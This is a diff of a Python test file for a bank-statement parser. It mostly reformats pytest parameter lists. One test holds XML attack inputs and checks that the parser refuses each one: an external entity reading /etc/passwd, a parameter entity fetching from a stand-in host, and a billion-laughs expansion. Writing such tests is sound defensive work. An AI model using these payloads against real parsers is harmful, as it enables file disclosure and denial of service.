@@ -39,7 +39,9 @@ def money(content: bytes) -> list[tuple[int, int, list[int]]]:
 
 
 def refused(content: bytes) -> BankFileRefused | None:
-    """Why a file is refused, with sentences that are whole; None where it is taken. Nothing else may come out."""
+    """Why a file is refused, with sentences that are whole; None where it is taken. Nothing else may come
+    out.
+    """
     try:
         money(content)
     except BankFileRefused as problem:
@@ -117,23 +119,49 @@ def test_another_account_and_another_currency(name: str):
         )
 
 
-@pytest.mark.parametrize("attack", [
-    b'<!DOCTYPE a [<!ENTITY b "c">]>',
-    b'<!DOCTYPE a SYSTEM "file:///etc/passwd">',
-    b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://x.example/">%b;]>',
-    b"<!DOCTYPE Document>",
-    b'<!DOCTYPE a [' + b''.join(b'<!ENTITY a%d "%s">' % (n, b'&a%d;' % (n - 1) * 10) for n in range(1, 10)) + b']>',
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "attack",
+    [
+        b'<!DOCTYPE a [<!ENTITY b "c">]>',
+        b'<!DOCTYPE a SYSTEM "file:///etc/passwd">',
+        b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://x.example/">%b;]>',
+        b"<!DOCTYPE Document>",
+        b"<!DOCTYPE a ["
+        + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
+        + b"]>",
+    ],
+)
 def test_a_document_type_is_refused_before_anything_is_read(attack: bytes):
     content = GOOD["camt 08"].replace(b"<Document", attack + b"<Document", 1)
     assert isinstance(refused(content), refusals.DtdRefused)
 
 
-@pytest.mark.parametrize("content", [
-    b"", b" ", b"\n" * 100, b"<", b"<a/>", b"{}", b"%PDF-1.7", b"a,b,c\n1,2,3\n", b"\x00" * 100, b"PK", b"PK\x03\x04",
-    b"\xff\xfe", b"<?xml version='1.0'?>", b":20:", b":20:\n:25:", b"\xef\xbb\xbf", b"GIF89a", b"<html></html>",
-    b":20:x\n-", b"<Document/>", b"<Document xmlns='urn:iso:std:iso:20022:tech:xsd:camt.053.001.08'/>",
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"",
+        b" ",
+        b"\n" * 100,
+        b"<",
+        b"<a/>",
+        b"{}",
+        b"%PDF-1.7",
+        b"a,b,c\n1,2,3\n",
+        b"\x00" * 100,
+        b"PK",
+        b"PK\x03\x04",
+        b"\xff\xfe",
+        b"<?xml version='1.0'?>",
+        b":20:",
+        b":20:\n:25:",
+        b"\xef\xbb\xbf",
+        b"GIF89a",
+        b"<html></html>",
+        b":20:x\n-",
+        b"<Document/>",
+        b"<Document xmlns='urn:iso:std:iso:20022:tech:xsd:camt.053.001.08'/>",
+    ],
+)
 def test_what_is_no_statement_at_all(content: bytes):
     assert refused(content) is not None
 
